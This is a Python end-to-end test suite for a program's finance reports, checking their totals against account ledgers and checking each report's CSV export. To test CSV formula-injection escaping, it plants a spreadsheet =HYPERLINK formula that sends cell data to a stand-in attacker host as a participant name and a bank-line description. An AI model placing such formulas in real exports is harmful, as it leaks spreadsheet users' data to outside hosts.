"""End-to-end tests of the finance reports (docs/api.md "Reports") against
the real parcoursd over HTTP, on SQLite and on a private MariaDB.

A randomised history (seeded: REPORTS_SEED, printed when a check fails) of
enrolments, plans, payments of every method, refunds, fee adjustments,
deposits with fees, an imported statement matching some of them, a returned
cheque and a bank fee; then every report's totals must reconcile with the
accounts' ledgers to the cent, the journal must balance, and each report's
CSV must parse into the same rows plus its Total row, spreadsheet-safe. A
third daemon taxes the fee (GST and QST), so the taxes report and the
journal's tax accounts are checked against the documents as issued.

Standard library only; loopback only."""

import csv
import datetime
import io
import json
import os
import random
import unittest
import urllib.parse

from billing_fixtures import BillingCase, MariaDBBillingCase, expect, program_today
from finance_fixtures import Cashier, days_ago, line, money
from harness import Daemon, assert_problem

SEED = int(os.environ.get("REPORTS_SEED", "20261202"))
HAND_METHODS = ("cash", "cheque", "debit", "credit")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REPORTS = ("aging", "deposits", "outstanding", "revenue", "taxes", "reconciliation", "journal")


class History:
    """Builds the randomised history and remembers what it did."""

    def __init__(self, cash, rng):
        self.cash, self.rng = cash, rng
        self.participants = []
        self.deposit_fees = 0
        self.bank_fee_cents = 0
        self.hostile_id = None

    def build(self):
        rng, cash = self.rng, self.cash
        for _ in range(7):
            participant = cash.enrolled()
            self.participants.append(participant["id"])
            if rng.random() < 0.7:
                first_due = days_ago(rng.choice([0, 5, 35, 65, 95, 130]))
                expect(201, cash.plan(participant["id"], rng.randint(1, 4), first_due.isoformat()), "plan")
            if rng.random() < 0.3:
                expect(201, cash.adjust(participant["id"], rng.choice([40000, 45000, 60000])), "fee adjustment")
        payments = []
        for pid in self.participants:
            for _ in range(rng.randint(1, 4)):
                method = rng.choice(("cash", "cheque", "debit", "credit", "interac", "bank_transfer"))
                amount = rng.randint(5, 200) * 100 + rng.randint(0, 99)
                received = days_ago(rng.randint(0, 20)).isoformat()
                payments.append(cash.paid(pid, amount, method=method, received_on=received))
        for p in rng.sample(payments, 3):
            expect(201, cash.refund(p["id"], rng.randint(1, p["amount_cents"])), "refund")
        refunded = {p["id"] for p in cash.payments() if p.get("refunded_cents", 0) > 0}
        # A cheque that will bounce: not refunded, never deposited.
        bounced = cash.paid(self.participants[0], 12345, method="cheque", received_on=days_ago(4).isoformat())
        deposits = []
        for method in HAND_METHODS:
            batch = [p["id"] for p in payments if p["method"] == method and p["id"] not in refunded]
            if not batch:
                continue
            total = sum(p["amount_cents"] for p in payments if p["id"] in batch)
            fee = rng.randint(1, min(500, total - 1)) if method in ("debit", "credit") else 0
            self.deposit_fees += fee
            deposits.append(expect(201, cash.deposit(method, batch, program_today(), fee), f"deposit {method}"))
        # An interac payment recorded by hand, then seen on the statement.
        interac = cash.paid(self.participants[1], 7777, method="interac", received_on=days_ago(2).isoformat())
        lines = [line(program_today(), d["net_cents"], "DEPOT", f"bordereau {d['id']}") for d in deposits[:2]]
        lines += [line(days_ago(2), 7777, "VIREMENT INTERAC", "sans reference"),
                  line(days_ago(1), -12345, "CHEQUE RETOURNE NSF", ""),
                  line(days_ago(1), -1250, "FRAIS MENSUELS", ""),
                  line(days_ago(1), 3210, HOSTILE, "inconnu")]
        account = cash.account(self.participants[2])
        owed = [i for i in account["installments"] if i["status"] in ("open", "overdue", "partial")]
        if owed:
            due = owed[0]
            lines.append(line(days_ago(1), min(due["amount_cents"] - due["paid_cents"], 5000) or 100,
                              "VIREMENT INTERAC", f"Paiement {due['reference']}"))
        cash.imported(lines, "rbc")
        open_lines = cash.bank_lines(status="unmatched") + cash.bank_lines(status="proposed")
        seen = next((l for l in open_lines if l["amount_cents"] == 7777), None)
        if seen:
            expect(200, cash.match(seen["id"], {"payment_ids": [interac["id"]]}), "match interac")
        nsf = next(l for l in open_lines if l["amount_cents"] == -12345)
        expect(200, cash.ignore(nsf["id"], {"kind": "returned_cheque", "payment_id": bounced["id"], "note": "NSF"}),
               "returned cheque")
        fee = next(l for l in open_lines if l["amount_cents"] == -1250)
        expect(200, cash.ignore(fee["id"], {"kind": "bank_fee"}), "bank fee")
        self.bank_fee_cents = 1250
        self.hostile_id = self.hostile_participant()   # owes the whole fee

    def hostile_participant(self):
        """A participant whose name a spreadsheet would run as a formula, owing money."""
        body = {"given_name": HOSTILE, "family_name": "@SUM(A1:A9)", "birth_date": "1980-01-01", "language": "fr",
                "referral": {"reference": f"DPCP-H{self.rng.randint(1000, 9999)}", "referred_on": "2026-11-01"}}
        participant = expect(201, self.cash.call("POST", "/api/v1/participants", body), "hostile participant")
        self.cash.enrol(participant)
        self.participants.append(participant["id"])
        return participant["id"]


def share(cents, part, whole):
    """cents × part / whole, rounded half away from zero."""
    quotient, rest = divmod(abs(cents * part), whole)
    quotient += 1 if 2 * rest >= whole else 0
    return -quotient if cents * part < 0 else quotient


def cents_of(text):
    """'-12.34' → -1234 (CSV amounts are decimals with a dot)."""
    negative = text.startswith("-")
    whole, _, fraction = text.lstrip("-").partition(".")
    value = int(whole) * 100 + int(fraction.ljust(2, "0"))
    return -value if negative else value


class ReportScenarios:
    taxed = False   # the fee carries GST and QST (billing.fee_tax_code=gst_qst)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.cash = Cashier(cls.daemon)
        cls.history = History(cls.cash, random.Random(SEED + cls.taxed))
        cls.history.build()
        cls.range = {"from": (program_today() - datetime.timedelta(days=400)).isoformat(),
                     "to": program_today().isoformat()}

    def report(self, name, **query):
        query = query or (self.range if name not in ("aging", "outstanding") else {})
        path = f"/api/v1/reports/{name}?{urllib.parse.urlencode(query)}"
        return expect(200, self.cash.as_finance("GET", path), f"report {name}")

    def report_csv(self, name, **query):
        query = query or (self.range if name not in ("aging", "outstanding") else {})
        path = f"/api/v1/reports/{name}?{urllib.parse.urlencode(query)}"
        status, headers, body = self.cash.as_finance("GET", path, headers={"Accept": "text/csv"})
        self.assertEqual(status, 200, body[:300])
        self.assertTrue(headers.get("content-type", "").startswith("text/csv"), headers)
        return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))

    def accounts(self):
        return [self.cash.account(pid) for pid in self.history.participants]

    def ledger_sum(self, key):
        return sum(a[key] for a in self.accounts())

    def check(self, condition, what):
        self.assertTrue(condition, f"{what} (REPORTS_SEED={SEED})")

    # -- totals against the ledger -----------------------------------------------------

    def test_aging_and_outstanding_add_up_to_the_balances(self):
        accounts = self.accounts()
        aging = self.report("aging")
        self.assertEqual(aging["as_of"], program_today().isoformat())
        self.assertEqual(aging["totals"]["balance_cents"], sum(a["balance_cents"] for a in accounts), SEED)
        self.assertEqual(len(aging["rows"]), sum(1 for a in accounts if a["balance_cents"] != 0), SEED)
        buckets = ("current_cents", "d1_30_cents", "d31_60_cents", "d61_90_cents", "d91_plus_cents")
        for row in aging["rows"]:
            self.assertEqual(sum(row[b] for b in buckets), row["balance_cents"], row)
        for b in buckets:
            self.assertEqual(aging["totals"][b], sum(r[b] for r in aging["rows"]), b)
        later = self.report("aging", as_of=(program_today() + datetime.timedelta(days=200)).isoformat())
        self.assertEqual(later["totals"]["balance_cents"], aging["totals"]["balance_cents"])
        self.assertGreaterEqual(later["totals"]["d91_plus_cents"], aging["totals"]["d91_plus_cents"])
        self.assertLessEqual(later["totals"]["current_cents"], aging["totals"]["current_cents"])
        outstanding = self.report("outstanding")
        owing = [a for a in accounts if a["balance_cents"] > 0]
        self.assertEqual(outstanding["totals"]["balance_cents"], sum(a["balance_cents"] for a in owing), SEED)
        self.assertEqual(len(outstanding["rows"]), len(owing))
        for row in outstanding["rows"]:
            self.assertIn(row["plan_status"], ("none", "on_track", "overdue", "beyond_plan"))

    def test_revenue_reconciles_with_the_ledger(self):
        revenue = self.report("revenue")
        totals = revenue["totals"]
        self.assertEqual(totals["invoiced_cents"], self.ledger_sum("charges_cents"), SEED)
        self.assertEqual(totals["credited_cents"], self.ledger_sum("credits_cents"), SEED)
        self.assertEqual(totals["collected_cents"], self.ledger_sum("payments_cents"), SEED)
        self.assertEqual(totals["refunded_cents"], self.ledger_sum("refunds_cents"), SEED)
        self.assertEqual(totals["returned_cents"], self.ledger_sum("returned_cents"), SEED)
        self.assertGreater(totals["returned_cents"], 0)
        month = program_today().strftime("%Y-%m")
        self.assertEqual(revenue["rows"][-1]["month"], month)

    def test_deposits_list_every_payment_once(self):
        payments = self.cash.payments()
        deposits = self.report("deposits")
        self.assertEqual(deposits["totals"]["payments"], len(payments), SEED)
        self.assertEqual(deposits["totals"]["total_cents"], sum(p["amount_cents"] for p in payments), SEED)
        self.assertEqual(deposits["totals"]["total_cents"], self.ledger_sum("payments_cents"), SEED)
        self.assertEqual(deposits["totals"]["fee_cents"], self.history.deposit_fees, SEED)
        slips = [r for r in deposits["rows"] if r["deposit_id"] is not None]
        self.assertGreaterEqual(len(slips), 2, SEED)
        listed = expect(200, self.cash.as_finance("GET", "/api/v1/deposits"), "deposits")["items"]
        self.assertEqual(sorted(r["deposit_id"] for r in slips), sorted(d["id"] for d in listed))

    def test_taxes_follow_the_invoices(self):
        """Taxes recomputed here from the documents as issued and the definition
        of docs/decisions.md: invoiced net of credit notes; collected in
        proportion to each account's net taxes, per receipt, refund and
        returned payment, rounded half away from zero."""
        expected = dict.fromkeys(("exempt_cents", "taxable_cents", "gst_invoiced_cents", "qst_invoiced_cents",
                                  "gst_collected_cents", "qst_collected_cents"), 0)
        returned = {p["receipt_number"]: p["returned_cents"] for p in self.cash.payments()}
        for account in self.accounts():
            net = {"gst": 0, "qst": 0, "total": 0}
            entries = []
            for summary in account["documents"]:
                kind = summary["kind"]
                if kind in ("invoice", "credit_note"):
                    content = self.cash.document(summary["number"])["content"]
                    sign = -1 if kind == "credit_note" else 1
                    for l in content["lines"]:
                        column = "taxable_cents" if l["tax_code"] == "gst_qst" else "exempt_cents"
                        expected[column] += sign * l["amount_cents"]
                    expected["gst_invoiced_cents"] += sign * content["gst_cents"]
                    expected["qst_invoiced_cents"] += sign * content["qst_cents"]
                    net["gst"] += sign * content["gst_cents"]
                    net["qst"] += sign * content["qst_cents"]
                    net["total"] += sign * content["total_cents"]
                elif kind == "receipt":
                    entries.append(summary["total_cents"])
                    if returned.get(summary["number"]):
                        entries.append(-returned[summary["number"]])
                elif kind == "refund_receipt":
                    entries.append(-summary["total_cents"])
            if net["total"] <= 0:
                continue
            for cents in entries:
                expected["gst_collected_cents"] += share(cents, net["gst"], net["total"])
                expected["qst_collected_cents"] += share(cents, net["qst"], net["total"])
        taxes = self.report("taxes")["totals"]
        self.assertEqual(taxes, expected, SEED)
        invoiced = self.ledger_sum("charges_cents") - self.ledger_sum("credits_cents")
        self.assertEqual(taxes["exempt_cents"] + taxes["taxable_cents"] + taxes["gst_invoiced_cents"]
                         + taxes["qst_invoiced_cents"], invoiced, SEED)
        if self.taxed:
            self.assertGreater(taxes["gst_invoiced_cents"], 0)
            self.assertGreater(taxes["qst_collected_cents"], 0)
        else:
            self.assertEqual((taxes["gst_collected_cents"], taxes["qst_collected_cents"]), (0, 0))

    def test_reconciliation_counts_the_lines_and_the_payments_the_bank_has_not_seen(self):
        lines = self.cash.bank_lines()
        deposits = expect(200, self.cash.as_finance("GET", "/api/v1/deposits"), "deposits")["items"]
        in_deposit = {d["id"]: d["payment_ids"] for d in deposits}
        seen = set()
        for l in lines:
            if l["status"] == "matched":
                seen.update(l["match"]["payments"])
                if l["match"]["deposit"]:
                    seen.update(in_deposit[l["match"]["deposit"]])
        unseen = [p for p in self.cash.payments() if p["id"] not in seen]
        report = self.report("reconciliation")
        totals = report["totals"]
        self.assertEqual(totals["bank_lines"], len(lines), SEED)
        self.assertEqual(totals["bank_lines_cents"], sum(l["amount_cents"] for l in lines), SEED)
        self.assertEqual(totals["payments_not_at_bank"], len(unseen), SEED)
        self.assertEqual(totals["payments_not_at_bank_cents"], sum(p["amount_cents"] for p in unseen), SEED)
        by_status = {r["status"]: r for r in report["rows"] if r["section"] == "bank_lines"}
        self.assertEqual(by_status["ignored"]["count"], 2)   # the returned cheque and the bank fee
        self.assertGreater(by_status["matched"]["count"], 0, SEED)
        self.assertGreater(totals["payments_not_at_bank"], 0, SEED)
        for status in ("matched", "proposed", "unmatched", "ignored"):
            self.assertEqual(by_status[status]["count"], sum(1 for l in lines if l["status"] == status), status)

    def test_the_journal_balances_and_its_receivable_is_the_balances(self):
        journal = self.report("journal")
        rows, totals = journal["rows"], journal["totals"]
        self.assertEqual(totals["debit_cents"], totals["credit_cents"], SEED)
        self.assertEqual(sum(r["debit_cents"] for r in rows), totals["debit_cents"])
        self.assertEqual(sum(r["credit_cents"] for r in rows), totals["credit_cents"])

        def net(account):
            return sum(r["debit_cents"] - r["credit_cents"] for r in rows if r["account"] == account)

        self.assertEqual(net("Accounts receivable"), self.ledger_sum("balance_cents"), SEED)
        self.assertEqual(totals["receivable_net_cents"], self.ledger_sum("balance_cents"))
        self.assertEqual(net("Bank fees"), self.history.bank_fee_cents)
        self.assertEqual(net("Card fees"), self.history.deposit_fees)
        taxes = self.report("taxes")["totals"]
        self.assertEqual(-net("GST payable"), taxes["gst_invoiced_cents"], SEED)
        self.assertEqual(-net("QST payable"), taxes["qst_invoiced_cents"], SEED)
        self.assertEqual(-net("Program fees") - net("GST payable") - net("QST payable"),
                         self.ledger_sum("charges_cents") - self.ledger_sum("credits_cents"), SEED)
        payments = self.cash.payments()
        hand = sum(p["amount_cents"] for p in payments if p["method"] in HAND_METHODS)
        deposits = expect(200, self.cash.as_finance("GET", "/api/v1/deposits"), "deposits")["items"]
        self.assertEqual(net("Undeposited funds"), hand - sum(d["total_cents"] for d in deposits), SEED)
        self.assertEqual(rows, sorted(rows, key=lambda r: r["date"]))
        self.assertGreater(len(rows), 40, SEED)
        documents = {r["document"][:2] for r in rows}
        self.assertTrue({"F-", "R-", "RR", "de", "ba"} <= documents, documents)

    # -- CSV -----------------------------------------------------------------------------

    def test_every_report_as_csv_has_the_json_rows_and_a_total_row(self):
        for name in REPORTS:
            with self.subTest(report=name):
                body = self.report(name)
                table = self.report_csv(name)
                rows = body["rows"]
                header = table[0]
                total_rows = 2 if name == "reconciliation" else 1
                self.assertEqual(len(table), 1 + len(rows) + total_rows, table[-3:])
                for json_row, csv_row in zip(rows, table[1:]):
                    self.assertEqual(len(csv_row), len(header))
                    for key, value in json_row.items():
                        column = key[:-len("_cents")] if key.endswith("_cents") else key
                        cell = csv_row[header.index(column)]
                        if key.endswith("_cents"):
                            self.assertEqual(cents_of(cell), value, (name, key, cell))
                            self.assertEqual(cell, money(value))
                        elif value is None:
                            self.assertEqual(cell, "")
                        elif isinstance(value, str) and value[:1] in "=+-@":
                            self.assertEqual(cell, "'" + value)
                        else:
                            self.assertEqual(cell, str(value), (name, key))
                for total in table[len(rows) + 1:]:
                    self.assertEqual(total[0], "Total")
                for key, value in body["totals"].items():
                    column = key[:-len("_cents")] if key.endswith("_cents") else key
                    if column in header and name != "reconciliation":
                        cell = table[-1][header.index(column)]
                        self.assertEqual(cents_of(cell) if key.endswith("_cents") else int(cell), value, key)

    def test_a_name_that_is_a_formula_is_escaped_in_the_csv(self):
        outstanding = self.report("outstanding")
        row = next(r for r in outstanding["rows"] if r["participant_id"] == self.history.hostile_id)
        self.assertEqual(row["name"], HOSTILE + " @SUM(A1:A9)")
        table = self.report_csv("outstanding")
        header = table[0]
        cells = [r for r in table[1:] if r[header.index("participant_id")] == self.history.hostile_id]
        self.assertEqual(len(cells), 1)
        self.assertEqual(cells[0][header.index("name")], "'" + HOSTILE + " @SUM(A1:A9)")
        raw = self.cash.as_finance("GET", "/api/v1/reports/outstanding", headers={"Accept": "text/csv"})[2]
        self.assertNotIn(b"\r\n=HYPERLINK", raw)
        self.assertNotIn(b",=HYPERLINK", raw)

    # -- parameters, access, audit -------------------------------------------------------

    def test_periods_default_and_bad_ones_are_refused(self):
        revenue = self.report("revenue", **{"to": program_today().isoformat()})
        self.assertEqual(revenue["from"], program_today().replace(day=1).isoformat())
        plain = expect(200, self.cash.as_finance("GET", "/api/v1/reports/journal"), "default journal")
        self.assertEqual(plain["from"], program_today().replace(day=1).isoformat())
        for query, status in (("as_of=2026-13-01", 400), ("as_of=yesterday", 400)):
            answer = self.cash.raw_finance("GET", f"/api/v1/reports/aging?{query}")
            assert_problem(self, *answer, status)
        for query, status in (("from=2026-02-30", 400), ("from=2026-05-02&to=2026-05-01", 422),
                              ("from=2022-01-01&to=2025-01-01", 422)):
            answer = self.cash.raw_finance("GET", f"/api/v1/reports/revenue?{query}")
            assert_problem(self, *answer, status)
        self.report("revenue", **{"from": "2022-01-02", "to": "2025-01-01"})

    def test_reports_are_finance_only_and_audited(self):
        for name in REPORTS:
            for token in (self.cash.admin, self.cash.coordinator):
                self.assertEqual(self.cash.call("GET", f"/api/v1/reports/{name}", token=token)[0], 403, name)
            self.report(name)
        for name in REPORTS:
            entries = expect(200, self.cash.call("GET", f"/api/v1/audit?subject=report:{name}&limit=500",
                                                 token=self.cash.admin), "audit")["items"]
            self.assertIn(f"report.{name}", [e["action"] for e in entries])
            for e in entries:
                self.assertEqual(e["actor_user_id"] if "actor_user_id" in e else self.cash.finance_user["id"],
                                 self.cash.finance_user["id"])
                self.assertNotIn("HYPERLINK", json.dumps(e))
                self.assertNotIn("Gaston", json.dumps(e))


class SQLiteReports(ReportScenarios, BillingCase):
    pass


class MariaDBReports(ReportScenarios, MariaDBBillingCase):
    pass


class TaxedBillingCase(BillingCase):
    """A SQLite daemon whose fee carries GST and QST (billing.fee_tax_code=gst_qst)."""

    @classmethod
    def setUpClass(cls):
        cls.daemon = Daemon("--set", "billing.fee_tax_code=gst_qst")
        cls.addClassCleanup(cls.daemon.close)
        cls.daemon.start()


class SQLiteTaxedReports(ReportScenarios, TaxedBillingCase):
    """The same history with a taxed fee: taxes and the journal's tax accounts carry amounts."""
    taxed = True


if __name__ == "__main__":
    unittest.main()
